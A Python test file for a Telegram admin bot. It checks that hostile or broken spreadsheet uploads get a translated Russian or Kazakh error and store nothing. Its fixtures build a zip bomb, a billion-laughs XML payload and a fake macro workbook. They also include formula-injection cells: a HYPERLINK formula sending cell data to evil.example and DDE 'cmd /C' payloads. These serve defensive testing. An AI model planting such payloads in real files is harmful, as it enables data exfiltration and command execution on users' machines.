"""Issue 8, item 6: hostile and broken spreadsheets sent to the imports through the dispatcher.

Every file below is a real document (built here, or a fixture in ``files/`` made with xlwt and
msoffcrypto-tool). For each one the admin gets one translated answer — in Russian and in
Kazakh — naming what is wrong, and the database is exactly as before: no person, enrollment,
session or score is stored from a bad file.
"""

from __future__ import annotations

import html
import io
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from aiogram.types import User
from openpyxl import Workbook
from openpyxl.worksheet.formula import ArrayFormula
from sqlalchemy import text

from bot.dev.testing import Harness, texts
from bot.runtime.container import Services
from tests.bot.admin.conftest import People, Uploads, make_cohort, make_course
from tests.bot.admin.test_enrollment import HEADERS, list_rows
from tests.fuzz.world import digest

FILES = Path(__file__).parent / "files"
SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# --- building documents ----------------------------------------------------------------------


def workbook(
    rows: list[list[Any]] | None = None,
    headers: list[str] = HEADERS,
    tweak: Callable[[Workbook], None] | None = None,
) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(headers)
    for row in list_rows(2) if rows is None else rows:
        sheet.append(row)
    if tweak is not None:
        tweak(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes | Callable[[zipfile.ZipFile], None]]) -> bytes:
    """A copy of the workbook zip with parts replaced or added; a callable writes its part
    itself (to stream a huge one)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info, source.read(info))
        for name, content in parts.items():
            if callable(content):
                content(target)
            else:
                target.writestr(name, content)
    return out.getvalue()


def sheet_xml(rows: int, cell: str = "x") -> bytes:
    body = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{cell if n > 1 else "ФИО"}</t></is>'
        "</c></row>"
        for n in range(1, rows + 1)
    )
    return f'<worksheet xmlns="{MAIN_NS}"><sheetData>{body}</sheetData></worksheet>'.encode()


def zip_bomb(megabytes: int) -> bytes:
    """An ordinary-looking workbook (~{megabytes} KiB) whose first sheet inflates to
    ``megabytes`` MiB of XML: one cell of "A"s."""

    def write(target: zipfile.ZipFile) -> None:
        with target.open(SHEET, "w", force_zip64=True) as part:
            part.write(
                f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'
                '<c r="A1" t="inlineStr"><is><t>'.encode()
            )
            block = b"A" * 2**20
            for _ in range(megabytes):
                part.write(block)
            part.write(b"</t></is></c></row></sheetData></worksheet>")

    return with_parts(workbook(), {SHEET: write})


def billion_laughs() -> bytes:
    """A sheet whose one cell is an XML entity expanding to 10^10 characters."""
    entities = '<!ENTITY a0 "AAAAAAAAAA">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]><worksheet xmlns="{MAIN_NS}">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return with_parts(workbook(), {SHEET: xml.encode()})


def macro_workbook() -> bytes:
    data = workbook()
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return with_parts(
        data, {"[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}
    )


def word_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def opendocument_sheet() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def hide_second_sheet(book: Workbook) -> None:
    hidden = book.create_sheet("Жасырын")
    hidden.append(["ИИН"])
    hidden.sheet_state = "hidden"


def merge_school_cells(book: Workbook) -> None:
    assert book.active is not None
    book.active.merge_cells("C2:C3")


def hide_third_row(book: Workbook) -> None:
    assert book.active is not None
    book.active.row_dimensions[3].hidden = True


def hidden_column_with_data(book: Workbook) -> None:
    sheet = book.active
    assert sheet is not None
    sheet["H2"] = "көрінбейтін"
    sheet.column_dimensions["H"].hidden = True


def csv_text(rows: list[list[str]]) -> str:
    return "\r\n".join(";".join(row) for row in [HEADERS, *rows])


# --- the cases ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Bad:
    """A file, its name, and the answer: the message id with its arguments, and a phrase the
    admin must read in each language (so a wrong or untranslated text fails)."""

    make: Callable[[], bytes]
    name: str
    key: str
    ru: str
    kk: str
    params: dict[str, Any] | None = None


CASES: dict[str, Bad] = {
    "zip bomb (60 MiB of XML in a few KiB)": Bad(
        lambda: zip_bomb(60),
        "тізім.xlsx",
        "sheet-error-unpacked-too-big",
        "распаковывается в слишком большой объём: 60 МБ при допустимых 50 МБ",
        "тым үлкен көлемге жайылады: 60 МБ, ал рұқсат етілгені — 50 МБ",
        {"size_mb": 60, "max_mb": 50},
    ),
    "XML entities expanding to 10 GB (billion laughs)": Bad(
        billion_laughs, "тізім.xlsx", "sheet-error-unreadable", "Не удалось прочитать файл",
        "Файлды оқу мүмкін болмады",
    ),
    "macros inside, named .xlsm": Bad(
        macro_workbook, "тізім.xlsm", "sheet-error-macros", "с макросами (.xlsm) не принимаются",
        "Макростары бар файлдар (.xlsm) қабылданбайды",
    ),
    "macros inside, named .xlsx": Bad(
        macro_workbook, "тізім.xlsx", "sheet-error-macros", "с макросами (.xlsm) не принимаются",
        "Макростары бар файлдар (.xlsm) қабылданбайды",
    ),
    "a program renamed to .xlsx": Bad(
        lambda: b"MZ\x90\x00\x03\x00\x00\x00" + bytes(500), "тізім.xlsx",
        "sheet-error-not-a-table", "это программа (исполняемый файл)",
        "бұл — бағдарлама (орындалатын файл)", {"kind": "program", "name": "тізім.xlsx"},
    ),
    "a PDF renamed to .csv": Bad(
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "list.csv",
        "sheet-error-not-a-table", "Файл «list.csv» — не таблица: это PDF-документ",
        "«list.csv» файлы электрондық кесте емес: бұл — PDF құжаты",
        {"kind": "pdf", "name": "list.csv"},
    ),
    "a Word document renamed to .xlsx": Bad(
        word_document, "list.xlsx", "sheet-error-not-a-table", "это документ Word",
        "бұл — Word құжаты", {"kind": "word", "name": "list.xlsx"},
    ),
    "an OpenDocument sheet renamed to .xlsx": Bad(
        opendocument_sheet, "list.xlsx", "sheet-error-not-a-table",
        "таблица OpenDocument (.ods), сохраните её в формате .xlsx",
        "OpenDocument пішіміндегі файл (.ods), оны .xlsx пішімінде сақтаңыз",
        {"kind": "ods", "name": "list.xlsx"},
    ),
    "a web page saved as .xls": Bad(
        lambda: b"<html><body><table><tr><td>1</td></tr></table></body></html>", "list.xls",
        "sheet-error-not-a-table", "это веб-страница (HTML)", "бұл — веб-бет (HTML)",
        {"kind": "html", "name": "list.xls"},
    ),
    "old binary Excel 97-2003 .xls": Bad(
        lambda: (FILES / "old-excel-97.xls").read_bytes(), "тізім.xls", "sheet-error-xls",
        "старого формата Excel 97–2003 (.xls)", "Excel 97–2003 ескі пішіміндегі файл (.xls)",
    ),
    "old .xls renamed to .xlsx": Bad(
        lambda: (FILES / "old-excel-97.xls").read_bytes(), "тізім.xlsx", "sheet-error-xls",
        "сохраните как «Книга Excel (.xlsx)»", "«Excel кітабы (.xlsx)» ретінде сақтаңыз",
    ),
    "password-protected workbook": Bad(
        lambda: (FILES / "password-qwerty.xlsx").read_bytes(), "тізім.xlsx",
        "sheet-error-encrypted", "Файл защищён паролем", "Файл құпиясөзбен қорғалған",
    ),
    "an empty file": Bad(
        lambda: b"", "тізім.csv", "sheet-error-empty", "Файл пустой", "Файл бос"
    ),
    "only the header row (xlsx)": Bad(
        lambda: workbook([]), "тізім.xlsx", "sheet-error-only-header",
        "только строка заголовков", "тек тақырып жолы бар",
    ),
    "only the header row (csv)": Bad(
        lambda: ";".join(HEADERS).encode(), "тізім.csv", "sheet-error-only-header",
        "только строка заголовков", "тек тақырып жолы бар",
    ),
    "100,000 rows (xlsx)": Bad(
        lambda: with_parts(workbook(), {SHEET: sheet_xml(100_001)}), "тізім.xlsx",
        "sheet-error-too-many-rows", "не больше 10\xa0000 в одном файле",
        "бір файлда 10\xa0000 жолдан аспауы керек", {"max_rows": 10_000},
    ),
    "100,000 rows (csv)": Bad(
        lambda: b"\xd0\xa4\xd0\x98\xd0\x9e\n" + b"x\n" * 100_000, "тізім.csv",
        "sheet-error-too-many-rows", "Разделите список на части", "Тізімді бөліктерге бөліңіз",
        {"max_rows": 10_000},
    ),
    "200 columns": Bad(
        lambda: workbook([["x"] * 200]), "тізім.xlsx", "sheet-error-too-many-columns",
        "Слишком много столбцов: не больше 60", "Баған тым көп: 60 бағаннан",
        {"max_columns": 60},
    ),
    "UTF-16 without a byte-order mark": Bad(
        lambda: csv_text(list_rows(1)).encode("utf-16-le"), "тізім.csv", "sheet-error-binary",
        "в строке 1 есть двоичные данные", "1-жолда екілік деректер бар", {"row": 1},
    ),
    "a NUL byte in row 3": Bad(
        lambda: csv_text(list_rows(3)).replace("8 701 0000001", "8 701 \x000000001").encode(),
        "тізім.csv", "sheet-error-binary", "в строке 3 есть двоичные данные (нулевой байт)",
        "3-жолда екілік деректер бар (нөлдік байт)", {"row": 3},
    ),
    "a hidden sheet": Bad(
        lambda: workbook(tweak=hide_second_sheet), "тізім.xlsx", "sheet-error-hidden-sheets",
        "В книге есть скрытые листы: Жасырын", "Кітапта жасырын парақтар бар: Жасырын",
        {"sheets": "Жасырын"},
    ),
    "a hidden row with data": Bad(
        lambda: workbook(tweak=hide_third_row), "тізім.xlsx", "sheet-error-hidden-rows",
        "Строка 3 скрыта, но в ней есть данные", "3-жол жасырылған, бірақ онда деректер бар",
        {"row": 3},
    ),
    "a hidden column with data": Bad(
        lambda: workbook(tweak=hidden_column_with_data), "тізім.xlsx",
        "sheet-error-hidden-columns", "Столбец H скрыт, но в нём есть данные",
        "H бағаны жасырылған, бірақ онда деректер бар", {"column": "H"},
    ),
    "merged cells": Bad(
        lambda: workbook(tweak=merge_school_cells), "тізім.xlsx", "sheet-error-merged",
        "объединённые ячейки (C2:C3)", "біріктірілген ұяшықтар бар (C2:C3)",
        {"cells": "C2:C3"},
    ),
    "not a spreadsheet name at all": Bad(
        lambda: "ФИО;ИИН\n".encode(), "тізім.docx", "sheet-error-type",
        "Этот тип файла не подходит", "Бұл файл түрі жарамайды",
    ),
}  # fmt: skip


async def speak(services: Services, user: User, lang: str) -> None:
    async with services.uow_factory() as uow:
        person = await uow.people.get_by_telegram_id(user.id)
        assert person is not None
        person.language = lang
        await uow.people.update(person)
        await uow.commit()


async def stored(services: Services) -> tuple[dict[str, str], list[Any]]:
    """Every protected table's rows, and the people the bot knows (with their IINs)."""
    async with services.session_factory() as session:
        known = (await session.execute(text("SELECT id, iin FROM people ORDER BY id"))).all()
    return await digest(services), [tuple(row) for row in known]


@pytest.mark.parametrize("lang", ["ru", "kk"])
@pytest.mark.parametrize("case", sorted(CASES))
async def test_a_bad_file_gets_a_clear_answer_and_imports_nothing(
    harness: Harness,
    services: Services,
    people: People,
    uploads: Uploads,
    case: str,
    lang: str,
) -> None:
    bad = CASES[case]
    await speak(services, people.admin, lang)
    cohort = await make_cohort(services, await make_course(services))
    await harness.press(people.admin, f"adh:import-list:{cohort.id}")
    before = await stored(services)
    started = time.process_time()
    sent = await uploads.send(people.admin, bad.make(), bad.name)
    cpu = time.process_time() - started
    expected = services.i18n_core.get(bad.key, lang, **(bad.params or {}))
    assert texts(sent) == [expected]
    assert (bad.ru if lang == "ru" else bad.kk) in expected
    assert await stored(services) == before
    assert cpu < 3, f"{cpu:.1f} s of CPU to refuse one file"


async def test_a_zip_bomb_is_refused_from_its_directory_without_inflating_it(
    harness: Harness, services: Services, people: People, uploads: Uploads
) -> None:
    """250 MiB of XML: openpyxl would take seconds and hundreds of MiB to read it."""
    bomb = zip_bomb(250)
    assert len(bomb) < 2**20
    cohort = await make_cohort(services, await make_course(services))
    await harness.press(people.admin, f"adh:import-list:{cohort.id}")
    started = time.process_time()
    sent = await uploads.send(people.admin, bomb, "тізім.xlsx")
    assert time.process_time() - started < 0.5
    assert texts(sent)[0].startswith(
        "Файл распаковывается в слишком большой объём: 250 МБ при допустимых 50 МБ."
    )


def formula_rows() -> list[list[Any]]:
    rows: list[list[Any]] = list_rows(5)
    rows[0][0] = '=HYPERLINK("http://evil.example/?d="&B2,"Әлия")'
    rows[1][2] = "=cmd|' /C calc'!A0"
    rows[2][3] = "+cmd|' /C notepad'!A0"
    rows[3][4] = "@SUM(1+1)|x"
    rows[4][0] = ArrayFormula("A6", "=SUM(B2:B3)")
    return rows


@pytest.mark.parametrize(
    ("lang", "title", "line"),
    [
        (
            "ru",
            "Ничего не импортировано: в файле 5 ошибок. Исправьте и отправьте файл целиком снова.",
            "Строка {row}, столбец «{column}»: формулы не принимаются («{value}»): "
            "вставьте значения",
        ),
        (
            "kk",
            "Ештеңе импортталмады: файлда 5 қате табылды. Түзетіп, файлды толығымен қайта "
            "жіберіңіз.",
            "{row}-жол, «{column}» бағаны: формулалар қабылданбайды («{value}»): мәндерді қойыңыз",
        ),
    ],
)
async def test_formulas_and_dde_payloads_are_refused_cell_by_cell(
    harness: Harness,
    services: Services,
    people: People,
    uploads: Uploads,
    lang: str,
    title: str,
    line: str,
) -> None:
    await speak(services, people.admin, lang)
    cohort = await make_cohort(services, await make_course(services))
    await harness.press(people.admin, f"adh:import-list:{cohort.id}")
    before = await stored(services)
    sent = await uploads.send(people.admin, workbook(formula_rows()), "тізім.xlsx")
    # what the admin reads: the first 40 characters, HTML-escaped for parse_mode=HTML (by the
    # i18n core: &, < and >; quotes stay as typed, as aiogram's html.quote)
    clipped = html.escape('=HYPERLINK("http://evil.example/?d="&B2…', quote=False)
    assert texts(sent) == [
        "\n".join(
            [
                title,
                line.format(row=2, column="ФИО", value=clipped),
                line.format(row=3, column="Школа", value="=cmd|' /C calc'!A0"),
                line.format(row=4, column="Должность", value="+cmd|' /C notepad'!A0"),
                line.format(row=5, column="Телефон", value="@SUM(1+1)|x"),
                line.format(row=6, column="ФИО", value="=SUM(B2:B3)"),
            ]
        )
    ]
    assert await stored(services) == before


async def test_ten_thousand_characters_in_a_cell(
    harness: Harness, services: Services, people: People, uploads: Uploads
) -> None:
    cohort = await make_cohort(services, await make_course(services))
    await harness.press(people.admin, f"adh:import-list:{cohort.id}")
    before = await stored(services)
    rows: list[list[Any]] = list_rows(30)
    for row in rows:
        row[2] = "Мектеп " * 1430  # 10,010 characters
    sent = await uploads.send(people.admin, workbook(rows), "тізім.xlsx")
    [answer] = texts(sent)
    assert len(answer) < 4096
    lines = answer.split("\n")
    assert lines[0].startswith("Ничего не импортировано: в файле 30 ошибок.")
    assert lines[1] == ("Строка 2, столбец «Школа»: слишком длинный текст (Мектеп Мектеп Мектеп…)")
    assert lines[-1] == "…и ещё 10."
    assert await stored(services) == before


async def test_utf16_with_a_byte_order_mark_is_read_like_utf8(
    harness: Harness, services: Services, people: People, uploads: Uploads
) -> None:
    """Excel's "Unicode text" is UTF-16 with a BOM (and tabs): a good list, imported."""
    cohort = await make_cohort(services, await make_course(services))
    await harness.press(people.admin, f"adh:import-list:{cohort.id}")
    rows = list_rows(3)
    data = "\r\n".join("\t".join(row) for row in [HEADERS, *rows]).encode("utf-16")
    sent = await uploads.send(people.admin, data, "тізім.txt")
    assert texts(sent)[-1].startswith("✅ Список импортирован.\nЗакреплено мест: 3")
    async with services.uow_factory() as uow:
        first = await uow.people.get_by_iin(rows[0][1])
    assert first is not None and first.full_name == rows[0][0]


# --- the schedule and the scores go through the same gate -------------------------------------


def schedule_file(rows: list[list[Any]]) -> bytes:
    return workbook(rows, ["Дата", "Время", "Часы", "Аудитория", "Тема"])


@pytest.mark.parametrize(
    ("lang", "expected"),
    [
        (
            "ru",
            "Ничего не импортировано: в файле 6 ошибок. Исправьте и отправьте файл целиком снова.\n"
            "Строка 2, столбец «Дата»: дата «12/31/2026» не распознана: нужен формат ДД.ММ.ГГГГ\n"
            "Строка 3, столбец «Дата»: дата «1 декабря 2026» не распознана: нужен формат "
            "ДД.ММ.ГГГГ\n"
            "Строка 4, столбец «Дата»: дата «46357» не распознана: нужен формат ДД.ММ.ГГГГ\n"
            "Строка 5, столбец «Дата»: дата «31.02.2026» не распознана: нужен формат ДД.ММ.ГГГГ\n"
            "Строка 6, столбец «Дата»: дата «2026.12.01» не распознана: нужен формат ДД.ММ.ГГГГ\n"
            "Строка 7, столбец «Тема»: слишком длинный текст (Тақырып Тақырып Тақы…)",
        ),
        (
            "kk",
            "Ештеңе импортталмады: файлда 6 қате табылды. Түзетіп, файлды толығымен қайта "
            "жіберіңіз.\n"
            "2-жол, «Дата» бағаны: «12/31/2026» күні танылмады: КК.АА.ЖЖЖЖ пішімі қажет\n"
            "3-жол, «Дата» бағаны: «1 декабря 2026» күні танылмады: КК.АА.ЖЖЖЖ пішімі қажет\n"
            "4-жол, «Дата» бағаны: «46357» күні танылмады: КК.АА.ЖЖЖЖ пішімі қажет\n"
            "5-жол, «Дата» бағаны: «31.02.2026» күні танылмады: КК.АА.ЖЖЖЖ пішімі қажет\n"
            "6-жол, «Дата» бағаны: «2026.12.01» күні танылмады: КК.АА.ЖЖЖЖ пішімі қажет\n"
            "7-жол, «Тема» бағаны: мәтін тым ұзын (Тақырып Тақырып Тақы…)",
        ),
    ],
)
async def test_schedule_dates_in_odd_formats_and_a_long_topic(
    harness: Harness,
    services: Services,
    people: People,
    uploads: Uploads,
    lang: str,
    expected: str,
) -> None:
    await speak(services, people.admin, lang)
    cohort = await make_cohort(services, await make_course(services))
    await harness.press(people.admin, f"adh:import-schedule:{cohort.id}")
    before = await stored(services)
    rows: list[list[Any]] = [
        ["12/31/2026", "09:00", 2, "204", ""],  # month first
        ["1 декабря 2026", "09:00", 2, "204", ""],
        [46357, "09:00", 2, "204", ""],  # an Excel day number typed into a text column
        ["31.02.2026", "09:00", 2, "204", ""],
        ["2026.12.01", "09:00", 2, "204", ""],
        [datetime(2026, 12, 3), "09:00", 2, "204", "Тақырып " * 1250],
        [datetime(2026, 12, 4), "09:00", 2, "204", "Бөлшектер"],  # a good row: not imported
    ]
    sent = await uploads.send(people.admin, schedule_file(rows), "кесте.xlsx")
    assert texts(sent) == [expected]
    assert await stored(services) == before


@pytest.mark.parametrize("case", ["zip bomb (60 MiB of XML in a few KiB)", "a hidden sheet"])
async def test_the_schedule_import_shares_the_gate(
    harness: Harness, services: Services, people: People, uploads: Uploads, case: str
) -> None:
    bad = CASES[case]
    cohort = await make_cohort(services, await make_course(services))
    await harness.press(people.admin, f"adh:import-schedule:{cohort.id}")
    before = await stored(services)
    sent = await uploads.send(people.admin, bad.make(), bad.name)
    assert texts(sent) == [services.i18n_core.get(bad.key, "ru", **(bad.params or {}))]
    assert await stored(services) == before


@pytest.mark.parametrize(
    "case", ["macros inside, named .xlsx", "password-protected workbook", "a PDF renamed to .csv"]
)
@pytest.mark.parametrize("lang", ["ru", "kk"])
async def test_the_score_import_shares_the_gate(
    harness: Harness, services: Services, people: People, uploads: Uploads, case: str, lang: str
) -> None:
    from bot.handlers.admin.results_callbacks import CohortPick

    bad = CASES[case]
    await speak(services, people.admin, lang)
    cohort = await make_cohort(services, await make_course(services))
    await harness.send(people.admin, "/scores_import")
    await harness.press(people.admin, CohortPick(action="import", cohort_id=cohort.id).pack())
    before = await stored(services)
    sent = await uploads.send(people.admin, bad.make(), bad.name)
    assert texts(sent) == [services.i18n_core.get(bad.key, lang, **(bad.params or {}))]
    assert (bad.ru if lang == "ru" else bad.kk) in texts(sent)[0]
    assert await stored(services) == before


async def test_a_huge_cell_in_the_score_import_still_fits_one_message(
    harness: Harness, services: Services, people: People, uploads: Uploads
) -> None:
    """The score import used to print every wrong value whole: 10,000 digits broke the
    4,096-character message limit."""
    from bot.handlers.admin.results_callbacks import CohortPick

    cohort = await make_cohort(services, await make_course(services))
    await harness.send(people.admin, "/scores_import")
    await harness.press(people.admin, CohortPick(action="import", cohort_id=cohort.id).pack())
    before = await stored(services)
    rows: list[list[Any]] = [["7" * 10_000, 50, "5"] for _ in range(3)]
    sent = await uploads.send(people.admin, workbook(rows, ["ИИН", "Балл", "Модуль 1"]), "b.xlsx")
    [answer] = texts(sent)
    assert len(answer) < 4096
    assert answer.split("\n")[1] == (
        "Строка 2, столбец «ИИН»: ИИН «" + "7" * 39 + "…» неверный (12 цифр с правильной "
        "контрольной цифрой)"
    )
    assert await stored(services) == before
